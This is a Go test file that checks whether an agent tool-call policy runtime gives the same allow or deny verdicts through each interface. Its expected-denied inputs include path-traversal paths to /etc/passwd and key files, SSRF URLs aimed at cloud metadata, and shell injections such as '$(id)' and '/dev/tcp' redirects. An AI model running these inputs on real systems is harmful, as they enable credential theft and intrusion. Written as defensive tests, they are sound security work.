package e2e_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/remitrun/remit"
)

// differentialPolicy has every effect for every kind of thing. %s is the server.
const differentialPolicy = `
version: 1
name: differential
files:
  read:
    allow: ["**", ".env.example"]
    ask: ["ask/**"]
    deny: ["**/*.bak", "private/**"]
    max_bytes: 64KiB
  write:
    allow: ["out/**", "notes.txt"]
    ask: ["ask/**"]
    deny: ["out/locked/**"]
    max_bytes: 4KiB
network:
  allow: ["http://%[1]s/ok/**", "GET http://%[1]s/redirect/**", "GET http://%[1]s/status/**", "GET http://%[1]s/large", "GET http://%[1]s/slow", "localhost"]
  ask: ["DELETE http://%[1]s/ask/**"]
  deny: ["http://%[1]s/ok/never/**"]
  max_bytes: 16KiB
  timeout: 20s
commands:
  allow: ["echo **", "cat **", "wc **", "ls **", "false", "sleep **", "sh -c **", "env **"]
  ask: ["sort **"]
  deny: ["** --force **", "cat notes.txt"]
  env: [LANG]
  timeout: 30s
  max_output: 4KiB
tools:
  allow:
    - "fs.*"
    - "http.*"
    - "db.*"
    - "browser.*"
    - shell.run
    - time.now
    - model.chat
    - authority.request
    - tool: random.bytes
      args: {count: {min: 1, max: 64}}
models: {allow: ["scripted:answers.yaml", "scripted:broken.yaml", "openai/*"], ask: ["scripted:ask.yaml"], deny: ["openai/big*"]}
databases: {shop: {url: "sqlite:shop.db", read: ["*"], write: [notes], deny: [users.password]}}
limits: {per_tool: {"fs.list": 3}}
`

// fill makes the workspace as it always begins.
func (w *world) fill() {
	w.t.Helper()
	if err := os.RemoveAll(w.workspace); err != nil {
		w.t.Fatal(err)
	}
	w.mkdir(w.workspace)
	for name, content := range map[string]string{
		"notes.txt": "one\ntwo\nthree\n", "src/a.go": "package a\n", "src/deep/b.go": "package b // two\n", "old.bak": "old",
		"private/key.txt": "secret", ".env": "TOKEN=x", ".env.example": "TOKEN=", "ask/q.txt": "?", "out/there.txt": "here",
		"out/locked/l.txt": "locked", "binary": "\x00\xff\xfe", "big.txt": strings.Repeat("0123456789abcdef", 5000), ".git/config": "[core]",
		"answers.yaml": "- {text: Hello., tool_calls: [{name: read, args: {path: a}}]}\n", "broken.yaml": "- {txt: Hello.}\n",
	} {
		w.write(name, content)
	}
	w.makeShop()
	outside := w.beside("outside.txt", "outside")
	for link, to := range map[string]string{"link.txt": "notes.txt", "escape.txt": outside, "loop": "loop", "out/up": "..", "etc": "/etc"} {
		if err := os.Symlink(to, filepath.Join(w.workspace, link)); err != nil {
			w.t.Fatal(err)
		}
	}
}

func args(pairs ...any) map[string]any {
	m := map[string]any{}
	for i := 0; i < len(pairs); i += 2 {
		m[pairs[i].(string)] = pairs[i+1]
	}
	return m
}

// path makes calls of a tool for paths.
func path(tool, wanted string, paths ...string) []call {
	var out []call
	for _, p := range paths {
		a := args("path", p)
		switch tool {
		case "fs.write":
			a["content"] = "new\n"
		case "fs.edit":
			a["edits"] = []any{args("old", "one", "new", "1")}
		case "fs.grep":
			a["pattern"] = "t[wh]"
		}
		out = append(out, call{Tool: tool, Args: a, wanted: wanted})
	}
	return out
}

func get(wanted string, urls ...string) []call {
	var out []call
	for _, u := range urls {
		out = append(out, call{Tool: "http.get", Args: args("url", u), wanted: wanted})
	}
	return out
}

func script(wanted string, scripts ...string) []call {
	var out []call
	for _, s := range scripts {
		out = append(out, call{Tool: "shell.run", Args: args("script", s), wanted: wanted})
	}
	return out
}

func argv(wanted string, words ...any) call {
	return call{Tool: "shell.run", Args: args("argv", words), wanted: wanted}
}

func statements(tool, wanted string, list ...string) []call {
	var out []call
	for _, s := range list {
		out = append(out, call{Tool: tool, Args: args("database", "shop", "sql", s), wanted: wanted})
	}
	return out
}

func chat(wanted string, models ...string) []call {
	var out []call
	for _, m := range models {
		out = append(out, call{Tool: "model.chat", Args: args("model", m, "messages", []any{args("role", "user", "text", "Hello")}), wanted: wanted})
	}
	return out
}

func requests(wanted string, asked ...map[string]any) []call {
	var out []call
	for _, a := range asked {
		a["reason"] = "it is needed"
		out = append(out, call{Tool: "authority.request", Args: a, wanted: wanted})
	}
	return out
}

// theCalls are calls of every tool with the status that each must come to; ""
// where only the agreement matters.
func theCalls(w *world) []call {
	http := "http://" + w.server
	port := w.server[strings.LastIndex(w.server, ":"):]
	groups := [][]call{
		path("fs.read", "completed", "notes.txt", "./src//a.go", "link.txt", "src/../notes.txt", ".env.example", w.workspace+"/notes.txt"),
		path("fs.read", "denied", "old.bak", "private/key.txt", ".env", "ask/q.txt", "../outside.txt", "escape.txt", "/etc/passwd", "etc/hostname",
			"../../../../../../etc/passwd", "/proc/self/environ", "/dev/stdin", "..", "../home/remit.db", "../home/keys/sign.key", "PRIVATE/../private/key.txt", "out/up/private/key.txt",
			"private", "old.bak/", "a\x00b"),
		path("fs.read", "failed", "missing.txt", "~/x", "binary", "big.txt/x", "notes.txt/"),
		path("fs.read", "", "src", "loop"),
		path("fs.read", "", "big.txt", "notes.txt\n", "..\\outside.txt", "%2e%2e/outside.txt", "ＮＯＴＥＳ.txt", "Notes.txt", strings.Repeat("a/", 1500), "\u202etxt.seton", "notes.txt ", " ", "."),
		{{Tool: "fs.read", Args: args("path", "notes.txt", "offset", 4, "limit", 5), wanted: "completed"},
			{Tool: "fs.read", Args: args("path", "binary", "encoding", "base64"), wanted: "completed"}},
		path("fs.stat", "", "notes.txt", "link.txt", "missing", "private", "escape.txt", "."),
		path("fs.list", "", ".", "src", "private", "missing", "etc"), // the fourth is one too many
		path("fs.grep", "", ".", "notes.txt", "src", "private", "escape.txt", "missing"),
		path("fs.write", "completed", "out/new.txt", "out/a/b/c.txt", "out/there.txt", "notes.txt"),
		path("fs.write", "denied", "src/a.go", "out/locked/x", "../x", "out/../src/x", "out/up/src/x", "out/.git/hooks/pre-commit", "out/.env", "ask/new", "remit.yaml", "link.txt/x", ".git/config", "/tmp/x", "escape.txt"),
		{{Tool: "fs.write", Args: args("path", "out/huge", "content", strings.Repeat("x", 5000))},
			{Tool: "fs.write", Args: args("path", "out/there.txt", "content", "x", "if_sha256", strings.Repeat("0", 64)), wanted: "failed"}},
		path("fs.edit", "", "notes.txt", "src/a.go", "missing", "out/there.txt", "out/locked/l.txt"),
		path("fs.delete", "", "out/new.txt", "out/missing", "src/a.go", "out/locked", "out"),
		{{Tool: "fs.move", Args: args("from", "out/there.txt", "to", "out/moved.txt")},
			{Tool: "fs.move", Args: args("from", "private/key.txt", "to", "out/key.txt"), wanted: "denied"},
			{Tool: "fs.move", Args: args("from", "out/moved.txt", "to", "../moved.txt"), wanted: "denied"}},
		get("completed", http+"/ok/x", http+"/ok/a%2fb", http+"/ok/a%20b", http+"/ok/../ok/x", http+"/redirect/home"),
		get("denied", http+"/no", http+"/no%2fx", http+"/ok%2fx", http+"/ok/never%2fx", http+"/ok/never/x", http+"/ok/../never", http+"/ok/%2e%2e/no", "http://[::1]"+port+"/ok/x",
			"http://localhost"+port+"/ok/x", "http://169.254.169.254/latest/", "https://example.com/", "http://127.0.0.1.nip.io"+port+"/ok/x",
			http+"/redirect/denied", http+"/redirect/metadata", http+"/redirect/file"),
		get("denied", http+"/ok/a%2f..", "http://user:pw@"+w.server+"/ok/x", "http://127.1"+port+"/ok/x", "http://2130706433"+port+"/ok/x", "http://0x7f.1"+port+"/ok/x",
			"http://[::ffff:127.0.0.1]"+port+"/ok/x", "http://127.0.0.1./ok/x", "ftp://127.0.0.1/x", "gopher://127.0.0.1/x"), // no URL that is known
		get("", "file:///etc/passwd", "http://", "://x", "http://127.0.0.1"+port+"@evil.example/ok/x", http+"/status/404", http+"/large", "http:/\\127.0.0.1/", http+"/ok/\x00", "javascript:alert(1)"),
		{{Tool: "http.request", Args: args("method", "POST", "url", http+"/ok/post", "body", "x"), wanted: "completed"},
			{Tool: "http.request", Args: args("method", "DELETE", "url", http+"/ask/x"), wanted: "denied"},
			{Tool: "http.request", Args: args("method", "TRACE", "url", http+"/ok/x")},
			{Tool: "http.request", Args: args("method", "POST", "url", http+"/redirect/home", "json", args("a", 1.5)), wanted: "denied"}},
		{argv("completed", "echo", "hello  world", "$HOME", ";", "`id`"), argv("denied", "cat", "notes.txt"), argv("denied", "echo", "--force", "x"), argv("denied", "rm", "-rf", "."),
			argv("denied", "sort", "notes.txt"), argv("failed", "false"), argv("denied", "./echo"), argv("denied", "/bin/../usr/bin/id"), argv("", "sh", "-c", "id"), argv("", "sh", "-c", "echo hi"),
			argv("", "cat", ".env"), argv("", "cat", "private/key.txt"), argv("", "cat", "../outside.txt"), argv("", "ls", "src"), {Tool: "shell.run", Args: args("argv", []any{"sleep", "60"}, "timeout", "500ms"), wanted: "timeout"}, argv("", "env", "rm", "x"), argv("", "nosuchcommand")},
		script("completed", "echo one | wc -c", "echo $((1+1))", "echo 'a; rm -rf /'", "echo new > out/by-shell.txt", "cat src/a.go && echo ok", "eval echo x", "[[ -f notes.txt ]] && echo {1..3}"),
		script("denied", "echo $(id)", "echo `id`", "id; echo x", "echo x > src/x", "eval id", "cat <(id)", "echo x &>/dev/tcp/1.2.3.4/80", "$CMD x", "echo x | sort", "exec id", "echo x && rm x",
			"echo x > ../x", "cat < .env", "cat < private/key.txt", "FOO=1 id", ". ./x.sh", "echo x > /dev/tcp/1.2.3.4/80"),
		script("failed", "echo \"unterminated"),
		script("", "sh -c 'id'", "cat <<EOF\n$(id)\nEOF", "cat <<'EOF'\n$(id)\nEOF", "", "# nothing", "echo ${x:-$(id)}", "ls *.txt", "echo \\\nx", "i=0; while [ $i -lt 3000 ]; do echo x; i=$((i+1)); done"),
		{{Tool: "analyze.schema", Args: args("text", "[1]"), wanted: "denied"}, {Tool: "time.now", wanted: "completed"}, {Tool: "random.bytes", Args: args("count", 16), wanted: "completed"}, {Tool: "random.bytes", Args: args("count", 65), wanted: "denied"}},
		statements("db.query", "completed", "SELECT name FROM users", "SELECT count(*) FROM users"),
		statements("db.query", "denied", "SELECT * FROM users", "SELECT 1 FROM users ORDER BY password", "SELECT sql FROM sqlite_master", "SELECT load_extension('x')"),
		statements("db.query", "failed", "SELECT 1; SELECT 2", "PRAGMA table_info(users)", "SELECT nothing FROM users", "INSERT INTO notes VALUES ('x')"),
		statements("db.execute", "completed", "INSERT INTO notes VALUES ('x')"),
		statements("db.execute", "denied", "UPDATE users SET name = 'x'", "INSERT INTO notes SELECT password FROM users"),
		{{Tool: "db.schema", Args: args("database", "shop"), wanted: "completed"}, {Tool: "db.schema", Args: args("database", "other"), wanted: "denied"}},
		{{Tool: "browser.open", Args: args("url", "file:///etc/passwd"), wanted: "denied"}, {Tool: "browser.open", Args: args("url", "http://169.254.169.254/"), wanted: "denied"},
			{Tool: "browser.text", wanted: "failed"}, {Tool: "browser.click", Args: args("ref", "e1"), wanted: "failed"}, {Tool: "browser.fill", Args: args("ref", "e1", "text", "x"), wanted: "failed"},
			{Tool: "browser.select", Args: args("ref", "e1", "options", []any{"x"}), wanted: "failed"}, {Tool: "browser.wait", wanted: "failed"}, {Tool: "browser.screenshot", wanted: "failed"},
			{Tool: "browser.pdf", Args: args("path", ".env"), wanted: "denied"}, {Tool: "browser.close", wanted: "completed"}},
		chat("completed", "scripted:answers.yaml", "scripted/./src/../answers.yaml"),
		chat("denied", "scripted:../outside.txt", "scripted:/etc/shadow", "scripted:ask.yaml", "openai/big-one", "anthropic/any", "nosuch/any", "scripted:answers.yaml\x00", "openai/a\nb"),
		chat("failed", "scripted:broken.yaml"),
		chat("", "", "scripted:", "gpt-4", "OPENAI/any"),
		{{Tool: "model.chat", Args: args("model", "scripted:answers.yaml", "session", "x", "upto", 1, "digest", "", "system_digest", "", "tools_digest", ""), wanted: "failed"},
			{Tool: "model.chat", Args: args("model", "scripted:answers.yaml", "messages", []any{args("role", "system", "text", "x")})}},
		requests("completed", args("tool", "fs.read", "args", args("path", "notes.txt")), args("operations", []any{"files.read notes.txt"})),
		requests("denied", args("tool", "fs.read", "args", args("path", "ask/q.txt")), args("tool", "fs.read", "args", args("path", "old.bak")), args("tool", "shell.run", "args", args("argv", []any{"echo", "--force", "x"}))),
		requests("failed", args("tool", "authority.request"), args("operations", []any{"everything /"}), args("tool", "fs.read")),
		{{Tool: "nosuch.tool"}, {Tool: "fs.read"}, {Tool: "fs.read", Args: args("path", 1)}, {Tool: "fs.read", Args: args("path", "notes.txt", "extra", true)},
			{Tool: "fs.write", Args: args("path", "out/x")}, {Tool: "http.get", Args: args("url", nil)}, {Tool: "shell.run", Args: args("argv", []any{"echo"}, "script", "echo")},
			{Tool: "shell.run", Args: args("argv", []any{})}, {Tool: "fs.grep", Args: args("pattern", "(")}, {Tool: "FS.READ", Args: args("path", "notes.txt")}, {Tool: "fs.read ", Args: args("path", "x")}},
	}
	var out []call
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

// verdict is what the front doors must agree on.
type verdict struct {
	Tool, Status, Effect, Rule, Reason, Policy, Code, Message, Output string
	Line                                                              int
	Refusals                                                          []string
}

var took = regexp.MustCompile(`after [0-9.]+(ms|s)`)

// howToAnswer is what each door says of its own about an open question.
var howToAnswer = regexp.MustCompile(`\((run it in a terminal to be asked|a person answers with)[^()]*\)`)

// message leaves out what differs between two true runs, and what each door says
// of its own.
func message(s string) string {
	return howToAnswer.ReplaceAllString(took.ReplaceAllString(s, "after a while"), "(how to answer)")
}

var times = regexp.MustCompile(`"(mtime|duration_ms|cpu_ms|peak_memory_bytes)":("[^"]*"|[0-9.e+-]+)`)

// disk is there only where the kernel counted something.
var disk = regexp.MustCompile(`"disk_(read|written)_bytes":[0-9]+,`)

// scrub takes out of an output what differs between two true runs.
func scrub(tool string, out json.RawMessage) string {
	if tool == "time.now" || tool == "random.bytes" {
		return map[bool]string{true: "given", false: ""}[len(out) > 0]
	}
	var b bytes.Buffer
	if len(out) > 0 && json.Compact(&b, out) != nil {
		return string(out)
	}
	return times.ReplaceAllString(disk.ReplaceAllString(b.String(), ""), `"$1":0`)
}

func (s stepJSON) verdict() verdict {
	v := verdict{Tool: s.Tool, Status: s.Status, Effect: s.Decision.Effect, Rule: s.Decision.Rule, Reason: s.Decision.Reason,
		Policy: s.Decision.Policy, Line: s.Decision.Line, Output: scrub(s.Tool, s.Output)}
	if s.Error != nil {
		v.Code, v.Message = s.Error.Code, message(s.Error.Message)
	}
	for _, r := range s.Decision.Refusals {
		v.Refusals = append(v.Refusals, fmt.Sprintf("%s %s %s: %s", r.Effect, r.Rule, r.Action, r.Reason))
	}
	return v
}

func verdictOf(r remit.Result) verdict {
	v := verdict{Tool: r.Tool, Status: string(r.Status), Effect: r.Decision.Effect, Rule: r.Decision.Rule, Reason: r.Decision.Reason,
		Policy: r.Decision.Policy, Line: r.Decision.Line, Output: scrub(r.Tool, r.Output)}
	if r.Err != nil {
		v.Code, v.Message = r.Err.Code.Error(), message(r.Err.Msg)
	}
	for _, x := range r.Decision.Refusals {
		v.Refusals = append(v.Refusals, fmt.Sprintf("%s %s %s: %s", x.Effect, x.Rule, x.Action, x.Reason))
	}
	return v
}

// doors gives what each front door makes of the same calls in the same world.
type doors struct {
	w      *world
	rt     *remit.Runtime
	policy string
}

func newDoors(t *testing.T, policy string) *doors {
	w := newWorld(t).durability("process").serve()
	w.fill()
	d := &doors{w: w, policy: w.beside("policy.yaml", fmt.Sprintf(policy, w.server))}
	var err error
	d.rt, err = remit.Open(t.Context(), remit.Options{Home: w.home, Workspace: w.workspace, Policy: d.policy, Environ: w.environ()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := d.rt.Close(); err != nil {
			t.Error(err)
		}
	})
	return d
}

// session makes the calls one by one. It also checks that the record says the
// same as the results.
func (d *doors) session(calls []call) (live []verdict, after map[string]string) {
	d.w.t.Helper()
	ctx := context.Background()
	d.w.fill()
	s, err := d.rt.Begin(ctx, "calls")
	if err != nil {
		d.w.t.Fatal(err)
	}
	for _, c := range calls {
		r, err := s.Call(ctx, c.Tool, c.Args)
		if (err == nil) != (r.Status == remit.StatusCompleted) {
			d.w.t.Fatalf("%+v: status %s with error %v", c, r.Status, err)
		}
		live = append(live, verdictOf(r))
	}
	if _, err := s.End(ctx); err != nil {
		d.w.t.Fatal(err)
	}
	i := 0
	for r, err := range d.rt.Calls(ctx, s.Run()) {
		if err != nil {
			d.w.t.Fatal(err)
		}
		want := live[i]
		if r.Output == nil && r.OutputBytes > 0 {
			whole, err := d.rt.Output(ctx, s.Run(), r.Index)
			if err != nil {
				d.w.t.Fatal(err)
			}
			r.Output = whole
		}
		if diff := cmp.Diff(want, verdictOf(r)); diff != "" {
			d.w.t.Errorf("call %d %+v: the record differs from the result:\n%s", r.Index, calls[i], diff)
		}
		i++
	}
	if i != len(calls) {
		d.w.t.Errorf("%d calls were made, %d recorded", len(calls), i)
	}
	return live, tree(d.w.t, d.w.workspace)
}

// command makes the calls as a plan of the command line.
func (d *doors) command(calls []call) (out []verdict, after map[string]string) {
	d.w.t.Helper()
	d.w.fill()
	run := d.w.run(d.w.plan("calls", 1, calls...), d.policy)
	for _, s := range run.Steps {
		if bytes.HasPrefix(s.Output, []byte(`{"truncated":true,"bytes_total"`)) && bytes.Contains(s.Output, []byte(`"blob"`)) {
			whole, err := d.rt.Output(context.Background(), run.RunID, s.Index)
			if err != nil {
				d.w.t.Fatal(err)
			}
			s.Output = whole
		}
		out = append(out, s.verdict())
	}
	return out, tree(d.w.t, d.w.workspace)
}

// plan makes the calls as a plan of the Go API.
func (d *doors) plan(calls []call) (out []verdict, after map[string]string) {
	d.w.t.Helper()
	d.w.fill()
	run, err := d.rt.RunPlan(context.Background(), d.w.plan("calls", 1, calls...), nil)
	if err != nil {
		d.w.t.Fatal(err)
	}
	for r, err := range d.rt.Calls(context.Background(), run.ID) {
		if err != nil {
			d.w.t.Fatal(err)
		}
		if r.Output == nil && r.OutputBytes > 0 {
			if r.Output, err = d.rt.Output(context.Background(), run.ID, r.Index); err != nil {
				d.w.t.Fatal(err)
			}
		}
		out = append(out, verdictOf(r))
	}
	return out, tree(d.w.t, d.w.workspace)
}

// unplannable reports that a plan with this call is refused before it runs, as
// one may be whose call a session would refuse for its tool or arguments.
func (d *doors) unplannable(c call, v verdict) bool {
	d.w.t.Helper()
	if v.Code != remit.ArgsInvalid.Error() && v.Code != remit.ToolUnknown.Error() {
		return false
	}
	r := d.w.remit("run", d.w.plan("one", 1, c), "-p", d.policy, "-w", d.w.workspace, "--json")
	switch {
	case r.status == 2 && r.out == "" && r.err != "":
		return true
	case strings.HasPrefix(r.out, "{"):
		return false
	}
	d.w.t.Errorf("a plan of %+v: status %d\n%s%s", c, r.status, r.out, r.err)
	return true
}

// agree checks that all front doors come to the same.
func (d *doors) agree(t interface{ Errorf(string, ...any) }, calls []call) []verdict {
	alone, _ := d.session(calls)
	var planned []call
	for i, c := range calls {
		if !d.unplannable(c, alone[i]) {
			planned = append(planned, c)
		}
	}
	if len(planned) == 0 {
		return alone
	}
	want, wantTree := d.session(planned)
	for name, door := range map[string]func([]call) ([]verdict, map[string]string){"command": d.command, "plan": d.plan, "mcp": d.mcp, "mcp over http": d.mcpHTTP} {
		got, gotTree := door(planned)
		if len(got) != len(want) {
			t.Errorf("%s: %d calls, want %d", name, len(got), len(want))
			continue
		}
		for i := range want {
			if diff := cmp.Diff(want[i], got[i]); diff != "" {
				t.Errorf("call %d %s %q: %s and session disagree (-session +%s):\n%s", i+1, planned[i].Tool, fmt.Sprint(planned[i].Args), name, name, diff)
			}
		}
		if diff := cmp.Diff(wantTree, gotTree); diff != "" {
			t.Errorf("%s and session left different files (-session +%s):\n%s", name, name, diff)
		}
	}
	return alone
}

func TestEveryDoorGivesTheSameVerdict(t *testing.T) {
	d := newDoors(t, differentialPolicy)
	calls := theCalls(d.w)
	got := d.agree(t, calls)
	tools := map[string]bool{}
	for i, c := range calls {
		tools[c.Tool] = true
		if got[i].Code == remit.SandboxMissing.Error() {
			continue // this machine cannot confine commands, and so runs none
		}
		if c.wanted != "" && c.wanted != got[i].Status {
			t.Errorf("%s %q: %s, want %s: %s %s", c.Tool, fmt.Sprint(c.Args), got[i].Status, c.wanted, got[i].Code, got[i].Message)
		}
		if v := got[i]; v.Status == "denied" && (v.Code == "" || v.Message == "") {
			t.Errorf("%s %q: denied without a reason: %+v", c.Tool, fmt.Sprint(c.Args), v)
		}
	}
	for _, tool := range d.rt.Tools() {
		if !tools[tool.ID] {
			t.Errorf("%s is not tried", tool.ID)
		}
	}
	t.Logf("%d calls", len(calls))
}

func TestEveryDoorWaitsEquallyLong(t *testing.T) {
	d := newDoors(t, strings.Replace(differentialPolicy, "timeout: 20s", "timeout: 300ms", 1))
	for _, v := range d.agree(t, get("timeout", "http://"+d.w.server+"/slow")) {
		if v.Status != "timeout" {
			t.Errorf("%+v", v)
		}
	}
}

func TestEveryDoorCountsLimitsTheSame(t *testing.T) {
	for name, limits := range map[string]string{
		"calls":          "{calls: 5}",
		"calls_per_tool": "{calls_per_tool: 2}",
		"per_tool":       `{per_tool: {"fs.*": 3, "time.now": 1}}`,
		"none":           "{calls: 1, calls_per_tool: 1}",
	} {
		t.Run(name, func(t *testing.T) {
			d := newDoors(t, differentialPolicy[:strings.Index(differentialPolicy, "limits:")]+"limits: "+limits+"\n")
			var calls []call
			for range 3 {
				calls = append(calls, path("fs.read", "", "notes.txt", "private/key.txt")...)
				calls = append(calls, call{Tool: "time.now"})
				calls = append(calls, path("fs.stat", "", "notes.txt")...)
			}
			limited := 0
			for _, v := range d.agree(t, calls) {
				if v.Code == remit.LimitReached.Error() {
					limited++
				}
			}
			if limited == 0 {
				t.Error("no call was refused by a limit")
			}
		})
	}
}

// TestEveryDoorGivesTheSameVerdictOnGeneratedCalls makes up calls out of parts
// that policies, parsers and tools care about.
func TestEveryDoorGivesTheSameVerdictOnGeneratedCalls(t *testing.T) {
	d := newDoors(t, differentialPolicy)
	rapid.Check(t, func(rt *rapid.T) {
		calls := rapid.SliceOfN(rapid.Custom(func(rt *rapid.T) call { return drawCall(rt, d.w) }), 1, 30).Draw(rt, "calls") // few lists, as each starts five doors
		d.agree(rt, calls)
	})
}

// always reports whether a script of these words does the same each time: ls may
// not tell of times, and of the processes of a pipe only one may say or touch
// anything.
func always(words []string) bool {
	if slices.Contains(words, "ls") && (slices.Contains(words, "-l") || slices.Contains(words, "-c")) {
		return false
	}
	if !slices.Contains(words, "|") {
		return true
	}
	active, stage := 0, []string{}
	for _, w := range append(words, "|") {
		if w != "|" {
			stage = append(stage, w)
			continue
		}
		if len(stage) == 0 || stage[0] != "echo" || slices.ContainsFunc(stage, func(w string) bool { return slices.Contains([]string{";", "&&", ">", "<", "$(id)", "`id`"}, w) }) {
			active++
		}
		stage = stage[:0]
	}
	return active < 2
}

func drawCall(t *rapid.T, w *world) call {
	part := rapid.SampledFrom([]string{"out", "src", "private", "ask", "notes.txt", "a.go", "..", ".", "", "old.bak", ".env", ".git", "up", "link.txt", "escape.txt", "loop", "etc", "x", "ä", "%2e%2e", "out\\x", "\u00a0", "~"})
	name := rapid.Custom(func(t *rapid.T) string {
		p := strings.Join(rapid.SliceOfN(part, 1, 4).Draw(t, "parts"), "/")
		return rapid.SampledFrom([]string{"", "", "", "/", w.workspace + "/"}).Draw(t, "root") + p
	})
	host := rapid.SampledFrom([]string{w.server, w.server, w.server, "127.1", "localhost", "[::1]", "10.0.0.1", "u@" + w.server, "0.0.0.0", "metadata.invalid"})
	url := rapid.Custom(func(t *rapid.T) string {
		return rapid.SampledFrom([]string{"http", "http", "http", "HTTP", "https", "file"}).Draw(t, "scheme") + "://" + host.Draw(t, "host") + "/" +
			strings.Join(rapid.SliceOfN(rapid.SampledFrom([]string{"ok", "never", "..", "%2e%2e", "redirect", "home", "denied", "a?b=c", "#", "%00", "%2F", "x"}), 0, 4).Draw(t, "path"), "/")
	})
	word := rapid.SampledFrom([]string{"echo", "cat", "wc", "ls", "sort", "id", "--force", "notes.txt", "-l", ";", "|", "&&", "$(id)", "`id`", ">", "out/x", "src/x", "'", "\"", "x", "$HOME", "*", "<", "sh", "-c", "src/a.go"})
	words := rapid.SliceOfN(word, 1, 6).Filter(always)
	switch tool := rapid.SampledFrom([]string{"fs.read", "fs.write", "fs.edit", "fs.stat", "fs.list", "fs.grep", "fs.delete", "fs.move", "http.get", "http.request", "argv", "script"}).Draw(t, "tool"); tool {
	case "fs.move":
		return call{Tool: tool, Args: args("from", name.Draw(t, "from"), "to", name.Draw(t, "to"))}
	case "http.get":
		return call{Tool: tool, Args: args("url", url.Draw(t, "url"))}
	case "http.request":
		return call{Tool: tool, Args: args("url", url.Draw(t, "url"), "method", rapid.SampledFrom([]string{"GET", "POST", "PUT", "DELETE", "get", "CONNECT"}).Draw(t, "method"))}
	case "argv":
		var list []any
		for _, x := range words.Draw(t, "argv") {
			list = append(list, x)
		}
		return call{Tool: "shell.run", Args: args("argv", list, "stdin", "in")}
	case "script":
		return call{Tool: "shell.run", Args: args("script", strings.Join(words.Draw(t, "script"), " "))}
	default:
		return path(tool, "", name.Draw(t, "path"))[0]
	}
}
